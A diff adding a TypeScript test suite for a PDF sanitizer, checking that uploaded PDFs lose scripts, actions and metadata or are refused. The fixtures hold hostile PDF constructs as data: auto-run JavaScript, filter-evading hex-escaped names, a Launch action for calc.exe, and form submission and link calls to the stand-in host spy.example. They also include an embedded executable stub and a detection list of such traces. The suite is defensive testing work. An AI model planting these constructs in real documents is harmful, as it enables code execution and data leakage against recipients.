@@ -1,0 +1,311 @@
+/** What a PDF that somebody sends still holds once it is kept [SEC-11]. */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { deflateSync } from 'node:zlib';
+import { PDFParser, PDFRawStream, decodePDFRawStream } from '@cantoo/pdf-lib';
+import fc from 'fast-check';
+import { onePagePdf, pdfOf, pdfStream } from '../testing/test-pdf.ts';
+import { cleanPdf } from './clean-pdf.thread.ts';
+
+/** Everything that a PDF says, unpacked. */
+async function saidBy(bytes: Uint8Array): Promise<string> {
+  const context = await PDFParser.forBytesWithOptions(
+    bytes,
+    Number.POSITIVE_INFINITY,
+  ).parseDocument();
+  const objects = context.enumerateIndirectObjects().map(([, object]) => {
+    if (!(object instanceof PDFRawStream)) return object.toString();
+    // Its objects stand beside it.
+    if (object.dict.toString().includes('/ObjStm')) return '';
+    const isPicture = object.dict.toString().includes('DCTDecode');
+    const content = isPicture ? object.contents : decodePDFRawStream(object).decode();
+    return `${object.dict.toString()} ${Buffer.from(content).toString('latin1')}`;
+  });
+  return objects.join('\n');
+}
+
+async function clean(given: Buffer): Promise<string> {
+  const cleaned = await cleanPdf(given);
+  assert.ok(typeof cleaned !== 'string', String(cleaned));
+  return saidBy(cleaned);
+}
+
+const script = '/S /JavaScript /JS (app.alert\\(1\\))';
+const acting: Readonly<Record<string, Parameters<typeof onePagePdf>[0]>> = {
+  'a script that runs when it is opened': { catalog: `/OpenAction << ${script} >>` },
+  'a script under a name that is spelled otherwise': {
+    catalog: '/OpenActio#6e << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
+  },
+  'scripts of the document': {
+    catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
+  },
+  'scripts of events': {
+    catalog: `/AA << /WC << ${script} >> >>`,
+    page: `/AA << /O << ${script} >> >>`,
+  },
+  'a program that is started by a tap': {
+    page: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]',
+  },
+  'an address that is called': {
+    page: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://spy.example) >> >>]',
+  },
+  'a form that sends itself': {
+    catalog: '/AcroForm << /Fields [5 0 R] >>',
+    page: '/Annots [5 0 R]',
+    more: [
+      `<< /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://spy.example) >> /AA << /E << ${script} >> >> >>`,
+    ],
+  },
+  'a file within': {
+    catalog: '/Names << /EmbeddedFiles << /Names [(virus.exe) 5 0 R] >> >> /AF [5 0 R]',
+    page: '/AF [5 0 R] /Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]',
+    more: [
+      '<< /Type /Filespec /F (virus.exe) /EF << /F 6 0 R >> >>',
+      pdfStream('MZ virus', '/Type /EmbeddedFile'),
+    ],
+  },
+  'media that is played': {
+    page: '/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /R << /S /MR >> >> >>]',
+  },
+  'who made it, when and with what': {
+    catalog: '/Metadata 5 0 R /PieceInfo << /App << /Private (Asha Rao) >> >> /Lang (en)',
+    page: '/PieceInfo << /App << /Private (Asha Rao) >> >> /LastModified (D:2026)',
+    more: [
+      pdfStream('<x:xmpmeta>Asha Rao</x:xmpmeta>', '/Type /Metadata /Subtype /XML'),
+      '<< /Author (Asha Rao) /Creator (Scanner 3000) /CreationDate (D:2026) >>',
+    ],
+    trailer: '/Info 6 0 R /ID [<AA> <BB>]',
+  },
+  'what no page refers to': { more: [`<< /Hidden (Asha Rao) ${script} >>`, pdfStream('Asha Rao')] },
+  'bookmarks and articles that act': {
+    catalog: `/Outlines << /First << /Title (Asha Rao) /A << ${script} >> >> >> /Threads [<< /I << /Author (Asha Rao) >> >>]`,
+    page: '/B [<< /T << /I << /Author (Asha Rao) >> >> >>] /Tabs /S',
+  },
+  'a script among what a page is drawn with': {
+    page: `/Resources << /Properties << /A << /Metadata 5 0 R /Next << ${script} >> >> >> /XObject << /B << ${script} >> >> >>`,
+    more: [pdfStream('Asha Rao')],
+  },
+};
+const traces = `
+JavaScript,/JS,app.alert,Launch,calc.exe,spy.example,SubmitForm,/URI,virus,
+EmbeddedFile,Filespec,/EF,/AF,/AA,/OpenAction,/AcroForm,/Annots,Asha Rao,Scanner,
+Metadata,PieceInfo,/Info,/ID,/Names,/Outlines,/Rendition
+`
+  .split(',')
+  .map((trace) => trace.trim());
+
+for (const [what, parts] of Object.entries(acting)) {
+  test(`a PDF loses ${what}, and keeps its page [SEC-11]`, async () => {
+    const given = onePagePdf({ ...parts, content: 'BT /F1 9 Tf (seen) Tj ET' });
+    const said = await clean(given);
+    for (const trace of traces) assert.ok(!said.includes(trace), `${trace} in ${said}`);
+    assert.ok(said.includes('(seen) Tj'));
+    assert.match(said, /\/MediaBox \[ 0 0 300 300 \]/u);
+    assert.match(said, /\/Count 1/u);
+  });
+}
+
+test('a page keeps what it is drawn with, whatever the writer called it [SEC-11]', async () => {
+  const said = await clean(
+    onePagePdf({
+      page: '/Rotate 90 /Resources << /Font << /F 5 0 R /A 5 0 R >> /XObject << /B 6 0 R /JS 6 0 R >> >>',
+      content: '/B Do',
+      more: [
+        '<< /Type /Font /Subtype /Type3 /CharProcs << /A 7 0 R /F 7 0 R >> >>',
+        pdfStream(
+          '0 0 9 9 re f',
+          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /PTEX.FileName (/home/asha)',
+        ),
+        pdfStream('d0 letter'),
+      ],
+    }),
+  );
+  assert.match(said, /\/Font <<\s+\/F \d+ 0 R\s+\/A \d+ 0 R\s+>>/u);
+  assert.match(said, /\/CharProcs <<\s+\/A \d+ 0 R\s+\/F \d+ 0 R\s+>>/u);
+  assert.match(said, /\/B \d+ 0 R\s+\/JS \d+ 0 R/u);
+  assert.ok(
+    said.includes('/Rotate 90') && said.includes('0 0 9 9 re f') && said.includes('d0 letter'),
+  );
+  assert.ok(!said.includes('/home/asha'));
+});
+
+test('pages stay in their order, with what they have from the branches above them [SEC-11]', async () => {
+  const said = await clean(
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 3 /MediaBox [0 0 111 111] >>',
+      '<< /Type /Pages /Parent 2 0 R /Kids [4 0 R 5 0 R] /Count 2 /Rotate 180 >>',
+      '<< /Type /Page /Parent 3 0 R /UserUnit 1 >>',
+      '<< /Type /Page /Parent 3 0 R /UserUnit 2 /MediaBox [0 0 222 222] >>',
+      '<< /Type /Page /Parent 2 0 R /UserUnit 3 >>',
+    ]),
+  );
+  const pages =
+    said
+      .split('\n')
+      .join(' ')
+      .match(/<<\s*\/Type \/Page\s.*?>>/gu) ?? [];
+  const facts = pages.map((page) => [
+    /UserUnit (?<unit>\d)/u.exec(page)?.groups?.['unit'],
+    /MediaBox \[ 0 0 (?<size>\d+)/u.exec(page)?.groups?.['size'],
+    page.includes('/Rotate 180'),
+  ]);
+  assert.deepEqual(facts, [
+    ['1', '111', true],
+    ['2', '222', true],
+    ['3', '111', false],
+  ]);
+});
+
+test('a stamp and a filled field stay to be seen, drawn into the page where they stood [SEC-11]', async () => {
+  const said = await clean(
+    onePagePdf({
+      catalog: '/AcroForm << /Fields [6 0 R] /XFA (form) >>',
+      page: '/Annots [5 0 R 6 0 R 7 0 R 8 0 R]',
+      content: '(page) Tj',
+      more: [
+        '<< /Type /Annot /Subtype /Stamp /Rect [100 50 140 70] /AP << /N 9 0 R >> /T (Asha Rao) >>',
+        '<< /Type /Annot /Subtype /Widget /FT /Btn /V /Yes /Rect [0 0 10 10] /AS /Yes /AP << /N << /Yes 10 0 R >> >> >>',
+        '<< /Type /Annot /Subtype /Widget /FT /Btn /V /Yes /Rect [0 0 10 10] /AS /Off /AP << /N << /Yes 11 0 R >> >> >>',
+        '<< /Type /Annot /Subtype /Ink /F 2 /Rect [0 0 10 10] /AP << /N 11 0 R >> >>',
+        pdfStream('(approved) Tj', '/BBox [0 0 20 20]'),
+        pdfStream('(ticked) Tj', '/Type /XObject /Subtype /Form /BBox [0 0 10 10]'),
+        pdfStream('(not shown) Tj', '/BBox [0 0 10 10]'),
+      ],
+    }),
+  );
+  assert.ok(
+    said.includes('(page) Tj') && said.includes('(approved) Tj') && said.includes('(ticked) Tj'),
+  );
+  assert.ok(!said.includes('not shown'), 'neither a box that is not ticked nor a hidden mark');
+  assert.ok(
+    said.includes('q 2.00000 0.00000 0.00000 1.00000 100.00000 50.00000 cm /BaariDrawn0 Do Q'),
+  );
+  assert.ok(!/Annot|Widget|AcroForm|Asha Rao/u.test(said));
+});
+
+test('a layer that is off stays off [SEC-11]', async () => {
+  const said = await clean(
+    onePagePdf({
+      catalog: '/OCProperties << /OCGs [5 0 R] /D << /OFF [5 0 R] /AS [<< /Event /View >>] >> >>',
+      page: '/Resources << /Properties << /L 5 0 R >> >>',
+      content: '/OC /L BDC (draft) Tj EMC',
+      more: ['<< /Type /OCG /Name (Draft) /Usage << /CreatorInfo << /Creator (Asha Rao) >> >> >>'],
+    }),
+  );
+  assert.match(said, /\/OFF \[ \d+ 0 R \]/u);
+  assert.ok(!said.includes('Asha Rao') && !said.includes('/AS'));
+});
+
+function jpegWithPlace(): Buffer {
+  const segment = (marker: number, content: string): Buffer => {
+    const head = Buffer.from([0xff, marker, 0, content.length + 2]);
+    return Buffer.concat([head, Buffer.from(content, 'latin1')]);
+  };
+  return Buffer.concat([
+    Buffer.from([0xff, 0xd8]),
+    segment(0xe1, 'Exif\0\0GPS 18.52N'),
+    segment(0xc0, '\u0008\0\u0001\0\u0001\u0001\u0001\u0011\0'),
+    segment(0xda, 'scan'),
+    Buffer.from([1, 2, 3, 0xff, 0xd9]),
+  ]);
+}
+
+test('a photo in a page loses where it was taken [SEC-11]', async () => {
+  const page = '/Resources << /XObject << /I 5 0 R >> >>';
+  const picture = '/Type /XObject /Subtype /Image /Filter [/DCTDecode] /Width 1 /Height 1';
+  const said = await clean(onePagePdf({ page, more: [pdfStream(jpegWithPlace(), picture)] }));
+  assert.ok(said.includes('DCTDecode') && said.includes('scan') && !said.includes('GPS'));
+});
+
+const locked = '/Encrypt << /Filter /Standard /V 2 /R 3 /O (a) /U (b) /P -4 >>';
+const freeText = '<< /Subtype /FreeText /Rect [0 0 9 9] /Contents (take 2 a day) >>';
+const filled = '<< /Subtype /Widget /FT /Tx /V (take 2 a day) /Rect [0 0 9 9] >>';
+const refused: Readonly<Record<string, readonly [string, Buffer]>> = {
+  'what is encrypted': ['file_locked', onePagePdf({ trailer: locked })],
+  'a form that only its program draws': [
+    'file_not_cleanable',
+    onePagePdf({ catalog: '/NeedsRendering true /AcroForm << /XFA (form) >>' }),
+  ],
+  'a folder of files': [
+    'file_not_cleanable',
+    onePagePdf({ catalog: '/Collection << /View /D >>' }),
+  ],
+  'a text that no drawing comes with': [
+    'file_not_cleanable',
+    onePagePdf({ page: `/Annots [${freeText}]` }),
+  ],
+  'an answer in a form that no drawing comes with': [
+    'file_not_cleanable',
+    onePagePdf({ page: `/Annots [${filled}]` }),
+  ],
+  'a picture that lies elsewhere': [
+    'file_not_cleanable',
+    onePagePdf({
+      page: '/Resources << /XObject << /I 5 0 R >> >>',
+      more: [pdfStream('', '/Subtype /Image /F (https://spy.example/a.png)')],
+    }),
+  ],
+  'nothing but a beginning': ['file_type_refused', Buffer.from('%PDF-1.4\n%%EOF\n')],
+  'pages that bite their tail': [
+    'file_type_refused',
+    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
+  ],
+  'no page': [
+    'file_type_refused',
+    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
+  ],
+  'brackets without an end': [
+    'file_type_refused',
+    onePagePdf({ page: `/X ${'['.repeat(200_000)}` }),
+  ],
+};
+for (const [what, [code, given]] of Object.entries(refused)) {
+  test(`a PDF is refused: ${what} [SEC-11]`, async () => {
+    assert.equal(await cleanPdf(given), code);
+  });
+}
+
+test('objects packed together and later versions of them are read, and a clean PDF stays as it is [SEC-11]', async () => {
+  const packed =
+    '3 0 5 65 << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /UserUnit 7 >> (unused)';
+  const first = packed.indexOf('<<');
+  const stream = pdfStream(
+    deflateSync(Buffer.from(packed)),
+    `/Type /ObjStm /N 1 /First ${first} /Filter /FlateDecode`,
+  );
+  const given = Buffer.concat([
+    onePagePdf({ more: [stream] }),
+    Buffer.from(
+      `4 0 obj\n${pdfStream('(corrected) Tj').toString()}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
+    ),
+  ]);
+  const once = await cleanPdf(given);
+  assert.ok(typeof once !== 'string');
+  assert.ok((await saidBy(once)).includes('/UserUnit 7'));
+  const twice = await cleanPdf(once);
+  assert.ok(typeof twice !== 'string');
+  assert.deepEqual(Buffer.from(twice), Buffer.from(once));
+});
+
+test('whatever the bytes are, they are cleaned or refused and never break the reader [SEC-11]', async () => {
+  const whole = onePagePdf({
+    page: '/Annots [<< /Subtype /Link >>] /Resources << /Font << /A 4 0 R >> >>',
+  });
+  await fc.assert(
+    fc.asyncProperty(
+      fc.nat(whole.length),
+      fc.nat(whole.length),
+      fc.string({ unit: 'binary', maxLength: 20 }),
+      async (from, to, put) => {
+        const changed = Buffer.concat([
+          whole.subarray(0, from),
+          Buffer.from(put),
+          whole.subarray(to),
+        ]);
+        await cleanPdf(changed);
+      },
+    ),
+    { numRuns: 100 },
+  );
+});
